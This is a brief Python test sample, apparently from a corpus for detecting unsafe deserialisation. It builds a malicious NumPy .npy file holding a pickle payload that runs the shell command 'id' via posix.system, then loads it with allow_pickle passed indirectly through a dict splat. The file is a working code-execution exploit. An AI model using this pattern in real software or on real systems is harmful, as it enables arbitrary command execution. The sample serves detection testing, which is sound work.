# corpus: attack class=deserialise form=targeted
# allow_pickle passed through a dict splat, not as a keyword.
import numpy as np


def main():
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (118 - len(header)) + "\n"
    with open("array.npy", "wb") as handle:
        handle.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode())
        handle.write(b"cposix\nsystem\n(S'id'\ntR.")
    options = {"allow_pickle": True}
    return {"status": str(np.load("array.npy", **options))}
